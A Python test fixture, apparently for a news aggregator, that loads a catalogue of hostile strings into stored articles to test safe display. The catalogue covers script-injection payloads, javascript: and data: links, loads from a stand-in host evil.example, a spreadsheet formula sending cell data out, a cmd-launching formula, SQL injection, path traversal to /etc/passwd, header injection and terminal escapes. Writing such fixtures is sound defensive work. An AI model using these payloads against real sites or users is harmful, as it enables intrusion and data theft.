"""Strings that somebody may put into a feed to make a page, a feed or a program act, and a store full of them."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

from sqlalchemy import Engine

from clustering.settings import Settings
from daemon.stored_clusterer import StoredClusterer
from daemon.upkeep import index_left
from storage.articles import EntryRow, save_entries
from storage.catalogue import FeedSpec, SourceSpec, sync
from storage.engine import reading, writing
from storage.feeds import select_feeds

OUTLETS = ("alpha", "beta")
"""Both publish every string, so each is a story of two articles."""

HOSTILE: dict[str, str] = {
    "script": "<script>window.hit=1</script>",
    "script in another case": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script after a tag is closed": '"></title></textarea></style><script>window.hit=1</script>',
    "picture that fails": "<img src=x onerror=window.hit=1>",
    "picture from elsewhere": '<img src="https://evil.example/pixel.gif">',
    "svg that loads": "<svg/onload=window.hit=1>",
    "svg with a script": '<svg xmlns="http://www.w3.org/2000/svg"><script>window.hit=1</script></svg>',
    "svg that animates": "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "math that changes the parser": "<math><mtext></p><style><img src=x onerror=window.hit=1></style></mtext></math>",
    "frame": '<iframe src="javascript:window.hit=1"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><button autofocus onfocus=window.hit=1>',
    "style": "<style>*{background:url(https://evil.example/x)}</style>",
    "attribute with double quotes": '" onmouseover="window.hit=1" x="',
    "attribute with single quotes": "' onfocus='window.hit=1' autofocus='",
    "attribute with a backtick": "` onmouseover=window.hit=1 `",
    "comment that is left open": "<!-- <b>كل ما بعدها يختفي",
    "cdata that is closed": "]]><script>window.hit=1</script>",
    "processing instruction": '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
    "entity": "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "javascript link": "javascript:window.hit=1",
    "javascript link in another case": "JaVaScRiPt:window.hit=1",
    "javascript link with a tab": "java\tscript:window.hit=1",
    "javascript link with a line break": "java\nscript:window.hit=1",
    "javascript link after blanks": " \x01\x1f javascript:window.hit=1",
    "javascript link with an entity": "&#106;avascript&colon;window.hit=1",
    "javascript link that is percent-coded": "%6Aavascript%3Awindow.hit=1",
    "vbscript link": "vbscript:msgbox(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    "link without a scheme": "//evil.example/path",
    "link with a backslash": "https:/\\evil.example",
    "link with a login": "https://almarfa.example@evil.example/",
    "bidi override": "خبر \u202egpj.exe\u202c عاجل",
    "bidi isolates that stay open": "\u2066\u2067\u2068 خبر لا ينتهي",
    "bidi embeddings, many": "\u202b" * 200 + "خبر" + "\u202e" * 200,
    "zero width": "خ\u200bب\u200cر\u200d\ufeff\u2060\u00ad",
    "marks, many": "خ" + "\u0651\u064b" * 400,
    "nul": "خبر\0عاجل",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\u2029",
    "lone surrogate": "خبر \ud800 عاجل \udfff",
    "no characters": "\ufffe\uffff\U0010ffff",
    "emoji": "👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"خبر")',
    "formula with a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x1b[31m خبر \x9b2J",
    "header": "خبر\r\nSet-Cookie: riwaya=1\r\n\r\n<script>window.hit=1</script>",
    "path": "../../../../etc/passwd",
    "sql": "'; DROP TABLE article; --",
    "search language": 'title:("a OR NEAR(b) * ^c) AND NOT -',
    "json": '","hit":1,"x":"\\',
    "event stream": "خبر\n\nevent: hit\ndata: 1\n\n",
    "a megabyte": "ضخم " * 250_000,
    "one word, very long": "ط" * 20_000,
    "nothing": "",
    "blanks": " \t\u00a0\u3000 ",
}
"""What each is, and the string."""

_LONG = 20_000  # a title of a megabyte is enough
PUBLISHED = datetime(2026, 3, 1, 8, tzinfo=UTC)


def store_hostile(engine: Engine) -> None:
    """Let two outlets publish every string as title, summary, text and link, and group the articles.

    A link of the sort that opens something is kept as a feed gives it: what shows it has to judge it.
    """
    with writing(engine) as conn:
        sync(conn, [_outlet(source) for source in OUTLETS], PUBLISHED)
    for place, source in enumerate(OUTLETS):
        with reading(engine) as conn:
            (feed,) = select_feeds(conn, (source,))
        with writing(engine) as conn:
            save_entries(conn, source, feed.id, list(_entries(place)), PUBLISHED + timedelta(minutes=1 + place))
    clusterer = StoredClusterer(engine, Settings(), "test", batch=500)
    assert clusterer.take_lease()
    while clusterer.step():
        pass
    clusterer.drop_lease()
    while index_left(engine):
        pass


def _outlet(source: str) -> SourceSpec:
    return SourceSpec(
        id=source,
        name=f"صحيفة <b>{source}</b> \u202e",
        homepage=f"https://{source}.example/",
        country="JO",
        language="ar",
        timezone=None,
        full_text="false",
        feeds=(FeedSpec(f"https://{source}.example/rss?a=<b>&c='\""),),
    )


def _entries(place: int) -> Iterator[EntryRow]:
    for number, (name, text) in enumerate(HOSTILE.items()):
        # A body of its own, that both outlets share, makes the two articles one story.
        words = " ".join(f"كلمة{number * 97 + n * 31 % 89}{'ابتثجح'[n % 6]}" for n in range(80))
        yield EntryRow(
            key=f"guid:{number}",
            url=text[:2_000] if name != "nothing" else None,
            title=text,
            summary=text[:_LONG],
            text=f"{text[:_LONG]}\n{words}",
            published_at=PUBLISHED + timedelta(minutes=place),
            updated_at=None,
            published_raw=text[:200],
        )
